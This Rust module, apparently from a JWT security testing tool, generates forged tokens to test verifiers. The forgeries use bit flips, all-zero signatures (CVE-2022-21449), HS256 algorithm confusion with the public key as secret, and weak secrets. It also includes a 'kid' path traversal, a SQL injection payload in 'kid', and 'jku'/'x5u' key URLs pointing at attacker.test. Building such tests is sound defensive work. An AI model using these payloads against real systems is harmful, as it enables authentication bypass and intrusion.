//! Signatures and keys (RFC 8725 §2.1, §3.1-3.2, RFC 7518 §3).

use base64_simd::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::Value;

use super::{Attack, Forge};
use crate::{
    alg::{Algorithm, Family},
    attack::{Check::Keys, Members},
    issue::SigningKey,
    random::hmac_sha256,
    testing::jws::sign,
};

pub(super) fn attacks(forge: &Forge) -> Vec<Attack> {
    let (key, header) = (&forge.token.key, &forge.header);
    let stranger = forge.stranger();
    let bearer = |name, description, token: String| Attack::bearer(name, Keys, description, &token);
    let by =
        |header: &Members, key: &SigningKey| forge.with_signature(header, |text| sign(key, text));
    let changed = |change: fn(Vec<u8>) -> Vec<u8>| {
        forge.with_signature(header, |text| change(sign(key, text)))
    };
    let mut all = vec![
        bearer("f07_bit_of_header", "a bit of the header is changed", flipped(&forge.good(), 0)),
        bearer("f07_bit_of_payload", "a bit of the payload is changed", flipped(&forge.good(), 1)),
        bearer(
            "f07_bit_of_signature",
            "a bit of the signature is changed",
            flipped(&forge.good(), 2),
        ),
        bearer("f07_payload_of_another_token", "the payload is that of another token", {
            let (good, other) = (forge.good(), forge.other());
            let parts = |token: &str| token.split('.').map(str::to_owned).collect::<Vec<_>>();
            match (&*parts(&good), &*parts(&other)) {
                ([header, _, signature], [_, payload, _]) => {
                    format!("{header}.{payload}.{signature}")
                }
                _ => String::new(),
            }
        }),
        bearer("f07_signature_short", "the signature lacks its last byte", {
            changed(|mut signature| {
                signature.pop();
                signature
            })
        }),
        bearer("f07_signature_long", "a byte is behind the signature", {
            changed(|mut signature| {
                signature.push(0);
                signature
            })
        }),
        bearer("f07_signature_one_byte", "the signature is one byte", changed(|_| vec![0])),
        bearer("f07_signature_of_header", "the signature is over the header only", {
            forge.with_signature(header, |text| {
                sign(key, text.split(|byte| *byte == b'.').next().unwrap_or_default())
            })
        }),
        bearer("a05_signature_zero", "the signature is all zeros (CVE-2022-21449)", {
            changed(|signature| vec![0; signature.len()])
        }),
        bearer("a05_signature_ones", "the signature is all ones", {
            changed(|signature| vec![0xff; signature.len()])
        }),
        bearer("a13_another_key", "another key has signed, and `kid` is that of the issuer", {
            by(header, &stranger)
        }),
        bearer("a13_another_key_without_id", "another key has signed, and there is no `kid`", {
            let mut header = header.clone();
            header.remove("kid");
            by(&header, &stranger)
        }),
        bearer("a13_another_key_and_id", "another key has signed, which `kid` names", {
            let mut header = header.clone();
            header.set_text("kid", stranger.kid());
            by(&header, &stranger)
        }),
    ];
    for (name, description, parameter, value) in brought(&stranger) {
        for (suffix, with_id) in [("", true), ("_without_id", false)] {
            let mut header = header.clone();
            header.set(parameter, &*value);
            if !with_id {
                header.remove("kid");
            }
            let token = by(&header, &stranger);
            let id = if with_id { "" } else { ", and there is no `kid`" };
            let (name, description) = (format!("{name}{suffix}"), format!("{description}{id}"));
            all.push(Attack::bearer(name, Keys, description, &token));
        }
    }
    for algorithm in Algorithm::ALL.iter().filter(|it| **it != key.algorithm()) {
        let is_symmetric = algorithm.family() == Family::Hmac;
        if is_symmetric && key.algorithm().family() != Family::Hmac {
            // Those are below.
            continue;
        }
        let mut header = header.clone();
        header.set_text("alg", algorithm.name());
        let name = format!("a04_alg_{}", algorithm.name().to_lowercase());
        let description =
            format!("the signature is by `{}`, and `alg` is `{algorithm}`", key.algorithm());
        all.push(Attack::bearer(name, Keys, description, &by(&header, key)));
    }
    all.extend(with_chosen_key(forge));
    all.extend(with_public_key(forge));
    if let Some(token) = as_der(forge) {
        let description = "the signature of ECDSA is DER in place of two numbers";
        all.push(bearer("a05_signature_der", description, token));
    }
    all
}

/// HMAC with a secret that the header chooses.
fn with_chosen_key(forge: &Forge) -> Vec<Attack> {
    let attack = |name, description, parameter: Option<(&str, String)>, secret: &[u8]| {
        let mut header = forge.header.clone();
        header.set_text("alg", "HS256");
        if let Some((parameter, value)) = parameter {
            header.set(parameter, value);
        }
        let token = forge.with_signature(&header, |text| hmac_sha256(secret, text).to_vec());
        Attack::bearer(name, Keys, description, &token)
    };
    let kid = |kid: &str| Some(("kid", Value::from(kid).to_string()));
    let k = URL_SAFE_NO_PAD.encode_to_string([7; 32]);
    vec![
        attack(
            "a03_hs256_empty_with_id",
            "`HS256`, the secret is nothing, and `kid` is that of the issuer",
            None,
            b"",
        ),
        attack(
            "a12_kid_path_hs256",
            "`HS256` with an empty secret, and `kid` is the path of an empty file",
            kid("../../../../dev/null"),
            b"",
        ),
        attack(
            "a12_kid_sql_hs256",
            "`HS256` with the secret that the SQL in `kid` selects",
            kid("x' UNION SELECT 'secret' -- "),
            b"secret",
        ),
        attack(
            "a07_jwk_secret",
            "`HS256`, and the secret is in `jwk`",
            Some(("jwk", format!(r#"{{"kty":"oct","k":"{k}"}}"#))),
            &[7; 32],
        ),
    ]
}

/// Parameters of the header with which a token brings its own key.
pub(super) fn brought(
    stranger: &SigningKey,
) -> Vec<(&'static str, &'static str, &'static str, String)> {
    let text = |text: &str| Value::from(text).to_string();
    let mut all = vec![
        (
            "a07_jku",
            "another key has signed, and `jku` has the address of it",
            "jku",
            text("https://attacker.test/jwks.json"),
        ),
        (
            "a07_x5u",
            "another key has signed, and `x5u` has the address of its certificate",
            "x5u",
            text("https://attacker.test/certificate.pem"),
        ),
    ];
    if let Some(jwk) = stranger.public_jwk() {
        all.push(("a07_jwk", "another key has signed, and it is in `jwk`", "jwk", jwk));
    }
    if let Some(der) = stranger.public_pem().as_deref().and_then(der) {
        let chain = format!("[{}]", text(&STANDARD.encode_to_string(der)));
        all.push(("a07_x5c", "another key has signed, and it is in `x5c`", "x5c", chain));
    }
    all
}

/// HMAC with what everybody knows as the secret.
fn with_public_key(forge: &Forge) -> Vec<Attack> {
    let key = &forge.token.key;
    let Some(pem) = key.public_pem() else { return Vec::new() };
    let pem_trimmed = pem.trim_end();
    let jwk = key.public_jwk().unwrap_or_default();
    let members = serde_json::from_str::<Value>(&jwk).unwrap_or_default();
    let number = |name: &str| {
        let text = members.get(name)?.as_str()?;
        Some((text.to_owned(), URL_SAFE_NO_PAD.decode_to_vec(text).ok()?))
    };
    let coordinates = number("x").zip(number("y"));
    let number = number("n").or_else(|| number("x"));
    let mut secrets = vec![
        ("a03_hs256_pem", "the PEM text of the public key", pem.clone().into_bytes()),
        (
            "a03_hs256_pem_without_line_end",
            "the PEM text of the public key, without a line end at its end",
            { pem_trimmed.into() },
        ),
        ("a03_hs256_pem_crlf", "the PEM text of the public key, with CR and LF", {
            pem_trimmed.replace("\r\n", "\n").replace('\n', "\r\n").into_bytes()
        }),
        ("a03_hs256_jwk", "the JWK text of the public key", jwk.clone().into_bytes()),
        (
            "a03_hs256_jwks",
            "the text of the key set",
            format!(r#"{{"keys":[{jwk}]}}"#).into_bytes(),
        ),
        ("a03_hs256_kid", "the id of the key", key.kid().into()),
        ("a03_hs256_empty", "nothing", Vec::new()),
        ("a03_hs256_zeros", "32 zeros", vec![0; 32]),
        ("a03_hs256_word", "the word `secret`", b"secret".to_vec()),
        ("a03_hs256_changeme", "the word `changeme`", b"changeme".to_vec()),
        ("a03_hs256_example", "`your-256-bit-secret`", b"your-256-bit-secret".to_vec()),
        ("a03_hs256_issuer", "the name of the issuer", forge.token.issuer.as_bytes().to_vec()),
    ];
    if let Some(der) = der(&pem) {
        let text = STANDARD.encode_to_string(&der).into_bytes();
        secrets.push(("a03_hs256_der", "the DER bytes of the public key", der));
        secrets.push(("a03_hs256_der_base64", "the DER bytes of the public key in base64", text));
    }
    if let Some((text, bytes)) = number {
        secrets.push(("a03_hs256_number", "the first number of the public key", bytes));
        let description = "the first number of the public key in base64url";
        secrets.push(("a03_hs256_number_base64url", description, text.into_bytes()));
    }
    if let Some(((_, x), (_, y))) = coordinates {
        let point = [&[4], &*x, &*y].concat();
        secrets.push(("a03_hs256_point", "the point of the public key", point));
    }
    let header = |algorithm: &str, with_id: bool| {
        let mut header = forge.header.clone();
        header.set_text("alg", algorithm);
        if !with_id {
            header.remove("kid");
        }
        header
    };
    let mut all: Vec<_> = secrets
        .into_iter()
        .map(|(name, secret, bytes)| {
            let token = forge
                .with_signature(&header("HS256", false), |text| hmac_sha256(&bytes, text).to_vec());
            let description = format!("`HS256`, and the secret is {secret}");
            Attack::bearer(name, Keys, description, &token)
        })
        .collect();
    let with_id = forge
        .with_signature(&header("HS256", true), |text| hmac_sha256(pem.as_bytes(), text).to_vec());
    all.push(Attack::bearer(
        "a03_hs256_pem_with_id",
        Keys,
        "`HS256`, the secret is the PEM text of the public key, and `kid` is that of the key",
        &with_id,
    ));
    for (name, made) in [("HS384", SigningKey::hs384(&pem)), ("HS512", SigningKey::hs512(&pem))] {
        if let Ok(key) = made {
            let token = forge.with_signature(&header(name, false), |text| sign(&key, text));
            let description = format!("`{name}`, and the secret is the PEM text of the public key");
            let name = format!("a03_{}_pem", name.to_lowercase());
            all.push(Attack::bearer(name, Keys, description, &token));
        }
    }
    all
}

/// The token with its signature of ECDSA as DER (RFC 3279 §2.2.3).
fn as_der(forge: &Forge) -> Option<String> {
    let key = &forge.token.key;
    if !matches!(key.algorithm().family(), Family::P256 | Family::P384) {
        return None;
    }
    Some(forge.with_signature(&forge.header, |text| der_signature(&sign(key, text))))
}

/// The two numbers of a signature of ECDSA as DER.
pub(super) fn der_signature(signature: &[u8]) -> Vec<u8> {
    let (r, s) = signature.split_at(signature.len() / 2);
    let numbers = [integer(r), integer(s)].concat();
    // At most 102 bytes, so the length is one byte.
    let length = u8::try_from(numbers.len()).unwrap_or(u8::MAX);
    [&[0x30, length], &*numbers].concat()
}

/// A number as an INTEGER of DER.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let bytes: Vec<_> = bytes.iter().copied().skip_while(|byte| *byte == 0).collect();
    let zero: &[u8] = if bytes.first().is_none_or(|byte| byte & 0x80 != 0) { &[0] } else { &[] };
    let length = u8::try_from(zero.len().saturating_add(bytes.len())).unwrap_or(u8::MAX);
    [&[0x02, length], zero, &bytes].concat()
}

/// The token with another first character in the middle of one of its parts.
pub(super) fn flipped(token: &str, part: usize) -> String {
    let mut parts: Vec<_> = token.split('.').map(str::to_owned).collect();
    if let Some(part) = parts.get_mut(part) {
        // In the middle, all bits of a character count.
        let at = part.len() / 2;
        let other =
            if part.get(at..).is_some_and(|rest| rest.starts_with('A')) { "B" } else { "A" };
        part.replace_range(at..at.saturating_add(1), other);
    }
    parts.join(".")
}

/// The bytes of a PEM text.
fn der(pem: &str) -> Option<Vec<u8>> {
    Some(pem::parse(pem).ok()?.into_contents())
}
